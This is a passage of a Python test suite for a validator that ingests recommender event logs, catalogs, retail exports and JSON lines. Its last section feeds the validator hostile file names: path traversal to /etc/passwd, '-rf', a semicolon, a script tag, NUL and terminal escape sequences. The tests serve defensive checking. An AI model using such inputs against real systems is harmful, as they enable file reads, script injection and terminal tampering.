         text(CATALOG + "p1,Red mug,A red mug,Home > Kitchen,Acme,6.00\n"), "reject",
         ("duplicate_item_ids",), ("appear on several rows with different data",),
         table="catalog"),
    Case("missing-optional-catalog-columns", "hostile-text", "catalog.csv",
         rows("item_id,title", "p1,Mug", "p2,Tea", "p3,Teapot", "p4,Towel"), "warn",
         ("missing_catalog_columns",), ("no description, category, brand, price",),
         table="catalog"),
    Case("catalog-without-item-column", "hostile-text", "catalog.csv",
         rows("title,price", "Mug,5", "Tea,3"), "reject", ("missing_column",),
         ("item_id not found",), table="catalog"),

    # Event types.
    Case("unknown-event-labels", "event-types", "log.csv",
         text(LOG.replace("cart", "zoom").replace("purchase", "refund")), "reject",
         ("unknown_event_types",), ("'refund'", "'zoom'", "are not view, cart or purchase")),
    Case("missing-event-labels", "event-types", "log.csv",
         text(LOG.replace(",cart\n", ",\n").replace(",purchase\n", ",\n", 1)), "warn",
         ("missing_event_types",), ("2 event(s) have no event type; they count as 'view'",),
         check=events_are(view=5, purchase=1)),
    Case("synonym-event-labels", "event-types", "log.csv",
         text(LOG.replace("cart", "addtocart").replace("purchase", "transaction")), "accept",
         ("event_labels_mapped",), check=events_are(view=3, purchase=2, cart=1)),
    Case("no-event-column", "event-types", "log.csv",
         log_with("timestamp", [f"2024-03-0{d}" for d in range(1, 7)]), "accept",
         ("no_event_type",), ("every event counts as 'view'",), check=events_are(view=6)),
    Case("every-row-a-purchase", "event-types", "log.csv",
         log_with("timestamp", [f"2024-03-0{d}" for d in range(1, 7)]), "accept",
         ("no_event_type",), ("every event counts as 'purchase'",), default_event="purchase",
         check=events_are(purchase=6)),
    Case("bad-default-event", "event-types", "log.csv",
         log_with("timestamp", [f"2024-03-0{d}" for d in range(1, 7)]), "reject",
         ("bad_default_event",), ("is not view, cart or purchase",), default_event="refund",
         cli=False),  # the CLI's --default-event takes only view, cart or purchase

    # The Online Retail export: order lines, returns, US dates, a missing customer.
    Case("retail-csv", "retail", "Online Retail.csv", text(RETAIL_CSV), "warn",
         ("returns_dropped", "missing_ids", "no_event_type", "catalog_from_log"),
         ("negative quantity", "looks like an order export", "Quantity"),
         check=events_are(purchase=5)),
    Case("retail-xlsx", "retail", "Online Retail.xlsx", lambda s: xlsx({"Online Retail": [
        [int(c) if c.isdigit() else c for c in r] for r in RETAIL]}), "warn",
         ("returns_dropped", "missing_ids", "timestamp_format"), ("month-first",)),
    Case("retail-options", "retail", "Online Retail.csv", text(RETAIL_CSV), "warn",
         ("returns_dropped", "timestamp_format"), ("as chosen",), time_format="month-first",
         default_event="purchase", check=first_time("2010-12-01 08:26:00+00:00")),

    # JSON lines and arrays: errors by line number.
    Case("jsonl-good", "json", "log.jsonl",
         text(LOG_FRAME.to_json(orient="records", lines=True)), "accept"),
    Case("jsonl-bad-line-3", "json", "log.jsonl",
         text('{"user_id": "u1", "item_id": "p1"}\n{"user_id": "u1", "item_id": "p2"}\n'
              '{"user_id": "u2", "item_id": \n'), "reject", ("invalid_json",),
         ("line 3 is not valid JSON",)),
    Case("jsonl-array-line-2", "json", "log.jsonl",
         text('{"user_id": "u1", "item_id": "p1"}\n["u1", "p2"]\n'), "reject",
         ("json_not_object",), ("line 2 holds an array, not a JSON object",)),
    Case("json-array", "json", "log.json", text(LOG_FRAME.to_json(orient="records")), "accept"),
    Case("json-pretty-document", "json", "log.json",
         text('{\n  "user_id": "u1",\n  "item_id": "p1"\n}\n'), "reject", ("invalid_json",),
         ("one JSON document spread over several lines",)),
    Case("jsonl-numbers-nested", "json", "log.ndjson",
         text("".join(f'{{"user_id": {u}, "item_id": "p{i}", "value": {v}, "meta": '
                      f'{{"src": "app"}}}}\n' for u, i, v in
                      ((1, 1, 1.5), (1, 2, 2), (2, 1, 3), (2, 3, 1)))), "accept",
         check=ids_are("user_id", "1", "2")),

    # Hostile file names: a good log under names a shop, a script or an attacker might give.
    Case("name-path-traversal", "names", "../../etc/passwd.csv", text(NAMED), "accept"),
    Case("name-windows-device", "names", "CON.csv", text(NAMED), "accept"),
    Case("name-250-chars", "names", "x" * 246 + ".csv", text(NAMED), "accept"),
    Case("name-cjk", "names", "\u540d\u524d.csv", text(NAMED), "accept"),
    Case("name-dash-rf", "names", "-rf.csv", text(NAMED), "accept"),
    Case("name-semicolon", "names", "semi;colon.csv", text(NAMED), "accept"),
    Case("name-script-tag", "names", "<script>alert(1)</script>.csv", text(NAMED), "accept"),
    Case("name-newline", "names", "a\nb.csv", text(NAMED), "accept"),
    Case("name-nul", "names", "log\x00.csv", text(NAMED), "accept"),
    Case("name-rtl-override", "names", "log\u202evsc.csv", text(NAMED), "accept"),
    Case("name-escape-sequence", "names", "\x1b[2J\x1b]0;pwned\x07.csv",
         text("user_id,item\n"), "reject", ("empty_file",), ("{file}", "header but no data")),
    Case("escape-sequence-header", "hostile-text", "log.csv",
         text("user_id,\x1b[2J\u202eitem\nu1,p1\nu2,p2\n"), "reject", ("missing_column",),
         ("item_id not found",)),
    Case("name-hostile-and-bad", "names", "<b>$x$</b>;.csv",
         text(LOG.replace("u2,p1", "ren\u00e9,p1"), "cp1252"), "reject", ("undecodable_bytes",),
         ("{file}", "not valid utf-8")),
]
